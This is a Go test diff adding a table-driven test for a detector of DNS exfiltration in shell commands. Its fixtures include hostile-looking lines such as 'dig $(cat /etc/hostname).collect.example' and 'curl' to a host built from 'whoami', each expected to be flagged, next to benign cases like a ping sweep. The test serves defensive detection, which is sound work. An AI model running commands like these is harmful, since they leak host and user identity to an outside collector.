@@ -189,3 +189,22 @@ func TestGitPushOut(t *testing.T) {
 		}
 	}
 }
+
+// A host name computed at run time is found in every network command's words, and an
+// address whose last part is computed (a ping sweep) is no name.
+func TestComputedNames(t *testing.T) {
+	for line, want := range map[string]bool{
+		"dig $(cat /etc/hostname).collect.example":                     true,
+		"nslookup $(whoami)":                                           true,
+		"host $(id -u).collect.example":                                true,
+		"curl \"http://$(whoami).collect.example/\"":                   true,
+		"for i in $(seq 1 254); do ping -c1 192.168.1.$i; done":        false,
+		"for h in $(cat hosts.txt); do ping -c1 $h.corp.example; done": true,
+		"dig example.com":                                              false,
+		"ping -c1 $HOST":                                               false,
+	} {
+		if got := gives(line, findDNSExfil); got != want {
+			t.Errorf("%s: %s %v, want %v:\n%s", line, findDNSExfil, got, want, render(Analyze(line, testEnv)))
+		}
+	}
+}
